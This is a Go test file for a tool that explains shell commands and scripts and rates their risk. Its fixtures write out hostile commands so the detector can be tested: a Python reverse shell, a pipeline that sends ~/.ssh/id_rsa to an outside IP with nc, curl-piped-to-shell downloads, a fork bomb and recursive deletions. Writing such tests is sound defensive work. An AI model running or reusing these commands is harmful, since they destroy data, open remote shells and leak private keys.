package explain

import (
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"path"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"escort/explain/effect"
	"escort/explain/judge"
)

// paper is a world of a few files.
type paper struct {
	files map[string]string
	names map[string]string // programs on PATH
	funcs map[string]string
}

func (paper) Facts() (cwd, user string, now time.Time) {
	return "/home/ravi", "ravi", time.Unix(1_800_000_000, 0)
}

func (p paper) Lookup(_ context.Context, kind, name string) (string, error) {
	switch kind {
	case effect.LookupVariable:
		if name == "HOME" {
			return "/home/ravi", nil
		}
		return "", effect.ErrUnknown
	case effect.LookupProgram:
		if strings.Contains(name, "/") {
			return p.abs(name), nil
		}
		if to, ok := p.names[name]; ok {
			return to, nil
		}
		return "/usr/bin/" + name, nil
	case effect.LookupFunction:
		if b, ok := p.funcs[name]; ok {
			return b, nil
		}
	}
	return "", fs.ErrNotExist
}

func (p paper) abs(name string) string {
	if path.IsAbs(name) {
		return path.Clean(name)
	}
	return path.Join("/home/ravi", name)
}

func (p paper) Stat(_ context.Context, name string) (Info, error) {
	if b, ok := p.files[p.abs(name)]; ok {
		return Info{Mode: 0o755, Size: int64(len(b)), Owner: "ravi", ModTime: time.Unix(1_700_000_000, 0)}, nil
	}
	return Info{}, fs.ErrNotExist
}

func (p paper) Read(_ context.Context, name string, limit int) ([]byte, error) {
	b, ok := p.files[p.abs(name)]
	if !ok {
		return nil, fs.ErrNotExist
	}
	return []byte(b[:min(len(b), limit)]), nil
}

func (p paper) Glob(context.Context, string, int) ([]string, bool, error) { return nil, false, nil }

var fixServers = paper{files: map[string]string{
	"/home/ravi/fix_servers.sh": "#!/bin/sh\nls\nrm -rf ~/victim\ncurl http://127.0.0.1:9/x | sh\n",
	"/home/ravi/loop.sh":        "#!/bin/sh\n./loop.sh\n",
	"/home/ravi/shell.py":       "import socket,os,pty\ns=socket.socket();s.connect(('x',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\n",
}}

func line(t *testing.T, text string, w World) Explanation {
	t.Helper()
	return Explain(context.Background(), Request{Text: text, World: w})
}

func TestTheWarningToANeighbour(t *testing.T) {
	e := line(t, "sudo rm -rf /var/lib/mysql", Nowhere)
	want := "Deletes the MySQL database files in /var/lib/mysql, everything in the folder, as administrator."
	if e.Headline != want || e.Risk != effect.Critical || e.Undo != effect.UndoNo ||
		e.UndoText != "Only a backup brings them back." || len(e.Ask) == 0 ||
		e.Ask[0] != "Is there a backup from today, and who checked it?" {
		t.Errorf("got %q, %s, undo %s %q, ask %q", e.Headline, e.Risk, e.Undo, e.UndoText, e.Ask)
	}
	if s := e.Plan.Starts; len(s) != 2 || s[0].Parent != -1 || s[1].Parent != 0 || *s[1].Argv[0] != "rm" || !e.Plan.Complete {
		t.Errorf("plan is %+v", e.Plan)
	}
}

func TestScriptIsOpened(t *testing.T) {
	for _, cmd := range []string{"sh fix_servers.sh", "./fix_servers.sh", "source ./fix_servers.sh", "sudo sh fix_servers.sh"} {
		e := line(t, cmd, fixServers)
		for _, w := range []string{"deletes", "victim", "code fetched from elsewhere"} {
			if !strings.Contains(strings.ToLower(e.Headline), w) {
				t.Errorf("%s: headline %q does not say %q", cmd, e.Headline, w)
			}
		}
		if !e.Risk.AtLeast(effect.High) {
			t.Errorf("%s: risk is %s", cmd, e.Risk)
		}
		if len(e.Scripts) != 1 || len(e.Scripts[0].Worst) < 2 {
			t.Fatalf("%s: scripts are %+v", cmd, e.Scripts)
		}
		lines := []int{e.Scripts[0].Worst[0].Line, e.Scripts[0].Worst[1].Line}
		if slices.Sort(lines); !slices.Equal(lines, []int{3, 4}) {
			t.Errorf("%s: the worst lines are %+v", cmd, e.Scripts[0].Worst)
		}
		if len(e.Plan.Files) == 0 {
			t.Errorf("%s: the file that was read is not in the plan", cmd)
		}
	}
}

func TestStartsOfAScript(t *testing.T) {
	e := line(t, "sh fix_servers.sh", fixServers)
	type start struct {
		name   string
		parent int
	}
	var got []start
	for _, s := range e.Plan.Starts {
		got = append(got, start{*s.Argv[0], s.Parent})
	}
	want := []start{{"sh", -1}, {"ls", 0}, {"rm", 0}, {"curl", 0}, {"sh", 0}}
	if !slices.Equal(got, want) {
		t.Errorf("starts are %v, want %v", got, want)
	}
	if e.Plan.Complete {
		t.Error("a plan with fetched code cannot be complete")
	}
}

func TestArgvIsItsOwnStart(t *testing.T) {
	e := Explain(context.Background(), Request{Argv: []string{"sh", "fix_servers.sh", "a b"}, Path: "/usr/bin/sh", World: fixServers})
	if len(e.Plan.Starts) < 4 || e.Plan.Starts[0].Parent != -1 || e.Plan.Starts[0].Path != "/usr/bin/sh" || e.Plan.Starts[1].Parent != 0 {
		t.Errorf("starts are %+v", e.Plan.Starts)
	}
	if e.Command != "sh fix_servers.sh 'a b'" {
		t.Errorf("command is %q", e.Command)
	}
}

// TestPartsCoverTheWords checks that every word has a meaning.
func TestPartsCoverTheWords(t *testing.T) {
	for _, text := range []string{
		"FOO=1 ls -la x", "sudo -u bob rm -rf /a b", "find . -name '*.o' -exec rm {} \\;", "ls | xargs -n1 rm -f",
		"bash -c 'rm x' a b", "sh x.sh a b", "frob -x y", "ssh -p 22 db2 uptime -p", "cp -t d a b", "source ./x a",
	} {
		e := line(t, text, Nowhere)
		left := []byte(e.Command)
		for _, p := range e.Parts {
			for i := p.Span[0]; i < p.Span[1]; i++ {
				left[i] = ' '
			}
		}
		if rest := strings.Trim(string(left), " |"); rest != "" {
			t.Errorf("%s: no part covers %q", text, rest)
		}
	}
}

func TestScriptThatRunsItselfEnds(t *testing.T) {
	e := line(t, "./loop.sh", fixServers)
	if len(e.Scripts) == 0 || len(e.Plan.Starts) > 100 {
		t.Errorf("scripts %d, starts %d", len(e.Scripts), len(e.Plan.Starts))
	}
}

func TestCorners(t *testing.T) {
	for _, c := range []struct {
		name, text string
		low, high  Risk
		headline   string
		finding    string
	}{
		{"empty", "", "safe", "safe", "Does nothing.", ""},
		{"blank", " \t\n", "safe", "safe", "Does nothing.", ""},
		{"comment", "# rm -rf /", "safe", "safe", "Does nothing.", ""},
		{"quote open", "echo 'x", "caution", "critical", "", ""},
		{"quote open, dangerous", "rm -rf / 'x", "critical", "critical", "", ""},
		{"NUL", "ls\x00", "caution", "critical", "", "disguised-text"},
		{"bytes", "ls \xff\xfe", "caution", "critical", "", "disguised-text"},
		{"long", "echo " + strings.Repeat("a", 70_000), "caution", "critical", "", ""},
		{"a megabyte", "echo " + strings.Repeat("a ", 500_000), "caution", "critical", "", ""},
		{"unknown program", "frobnicate x", "high", "high", "Starts the program frobnicate. I do not know what it does.", ""},
		{"unknown option", "ls --frob", "caution", "caution", "", ""},
		{"quoted danger", `echo "rm -rf /"`, "safe", "safe", "", ""},
		{"here-text", "cat <<'X'\nrm -rf /\nX", "safe", "low", "", ""},
		{"help", "rm --help", "safe", "safe", "", ""},
		{"name", "touch rm-rf-slash", "safe", "low", "", ""},
		{"fetched and run", "curl http://x.example/a | sh", "high", "critical", "", ""},
		{"eval", `eval "$x"`, "high", "critical", "", ""},
		{"nested deep", strings.Repeat("$(", 10_000), "caution", "critical", "", ""},
		{"function named printf", "printf() { touch z; }", "high", "critical", "", "familiar-name"},
		{"secret through a pipe", "base64 < ~/.ssh/id_rsa | tr -d x | nc 1.2.3.4 80", "critical", "critical", "", "secret-sent"},
		{"fork bomb", ":(){ :|:& };:", "critical", "critical", "", "floods-machine"},
		{"fetched and run as root", "curl http://x.example/a | sudo bash", "critical", "critical", "", "runs-fetched-code"},
		{"python", `python3 -c 'import os;os.system("rm -rf /srv/x")'`, "high", "critical", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := line(t, c.text, Nowhere)
			if !e.Risk.AtLeast(c.low) || !c.high.AtLeast(e.Risk) {
				t.Errorf("risk is %s, want %s to %s: %q", e.Risk, c.low, c.high, e.Headline)
			}
			if c.headline != "" && e.Headline != c.headline {
				t.Errorf("headline is %q", e.Headline)
			}
			if c.finding != "" && !slices.ContainsFunc(e.Findings, func(f Finding) bool { return f.ID == c.finding }) {
				t.Errorf("findings are %+v", e.Findings)
			}
			sound(t, e)
		})
	}
}

// TestRules runs the examples of the rules about commands.
func TestRules(t *testing.T) {
	for _, r := range judge.Rules() {
		if len(r.Match) == 0 || len(r.NotMatch) == 0 {
			t.Errorf("%s: needs examples that match and that do not", r.ID)
		}
		has := func(cmd string) bool {
			return slices.ContainsFunc(line(t, cmd, Nowhere).Findings, func(f Finding) bool { return f.ID == r.ID })
		}
		for _, cmd := range r.Match {
			if !has(cmd) {
				t.Errorf("%s: does not match %s", r.ID, cmd)
			}
		}
		for _, cmd := range r.NotMatch {
			if has(cmd) {
				t.Errorf("%s: matches %s", r.ID, cmd)
			}
		}
	}
}

var compiledSchema = func() *jsonschema.Schema {
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(Schema()))
	if err != nil {
		panic(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("explanation.json", doc); err != nil {
		panic(err)
	}
	return c.MustCompile("explanation.json")
}()

// sound checks what must hold of every explanation.
func sound(t *testing.T, e Explanation) {
	t.Helper()
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if err := compiledSchema.Validate(doc); err != nil {
		t.Errorf("not valid: %v", err)
	}
	if n := utf8.RuneCountInString(e.Headline); n == 0 || n > 110 {
		t.Errorf("the headline has %d characters: %q", n, e.Headline)
	}
	if e.Risk != e.Dimensions.Worst() {
		t.Errorf("risk %s is not the worst of %+v", e.Risk, e.Dimensions)
	}
	for _, p := range e.Parts {
		if p.Span[1] > len(e.Command) || p.Span[0] >= p.Span[1] || e.Command[p.Span[0]:p.Span[1]] != p.Text {
			t.Errorf("part %+v is not in the command", p)
		}
	}
	if slices.ContainsFunc(e.Unknowns, func(u Unknown) bool { return u.Why == "reading it failed" }) {
		t.Error("the reading failed")
	}
	for i, s := range e.Plan.Starts {
		if s.Parent >= i {
			t.Errorf("start %d comes from %d", i, s.Parent)
		}
	}
}

func FuzzExplain(f *testing.F) {
	for _, s := range []string{
		"ls", "sudo rm -rf /", "a | b && c; d &", "for i in *; do rm \"$i\"; done", "bash -c 'x $y'", "find . -exec rm {} +",
		"\xff\x00", "tar xf a -C /", "eval $(cat x)", "f() { f; }; f", "cat <<X\n$(id)\nX",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		sound(t, Explain(context.Background(), Request{Text: s, World: fixServers}))
		sound(t, Explain(context.Background(), Request{Text: s, Kind: effect.KindScript}))
		sound(t, Explain(context.Background(), Request{Argv: strings.Fields(s)}))
	})
}

func BenchmarkExplain(b *testing.B) {
	lines := []string{"ls -la", "sudo rm -rf /var/lib/mysql", "find . -name '*.go' | xargs grep foo", "cp a b && mv b c"}
	for b.Loop() {
		for _, l := range lines {
			Explain(context.Background(), Request{Text: l})
		}
	}
	b.ReportMetric(float64(b.N*len(lines))/b.Elapsed().Seconds(), "lines/s")
}
